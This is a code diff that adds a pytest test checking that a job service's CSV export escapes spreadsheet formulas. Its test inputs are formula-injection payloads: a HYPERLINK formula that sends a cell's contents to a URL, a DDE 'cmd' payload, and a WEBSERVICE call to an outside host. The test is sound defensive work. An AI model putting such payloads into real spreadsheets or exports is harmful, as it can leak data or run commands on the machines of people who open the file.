@@ -295,3 +295,27 @@ def test_expected_finish_counts_from_the_start_once_the_gateway_started_the_job(
     assert demo_studio.expected_finish(queued_job) == submitted + timedelta(seconds=90)
     assert demo_studio.expected_finish(running_job) == submitted + timedelta(seconds=160)
     assert demo_studio.expected_finish(template) is None  # finished jobs expect nothing
+
+
+@pytest.mark.parametrize(
+    "prompt",
+    [
+        '=HYPERLINK("https://example.com/?leak="&A1,"open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_keeps_formulas_from_running_in_a_spreadsheet(demo_studio: Studio, prompt: str):
+    job = wait_until(finished(demo_studio, submit(demo_studio, prompt=prompt)))
+    # What the gateway says about the prompt it used is just as untrusted.
+    demo_studio.store.update(job.id, actual_prompt='=WEBSERVICE("https://example.com")')
+    rows = list(csv.reader(io.StringIO(demo_studio.export_csv().decode("utf-8"))))
+    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    assert record["prompt"] == "'" + prompt
+    assert record["actual prompt"] == '\'=WEBSERVICE("https://example.com")'
+    # Cells that are not formulas stay as they were.
+    assert record["status"] in {status.value for status in JobStatus}
+    assert record["estimate USD"][0].isdigit()
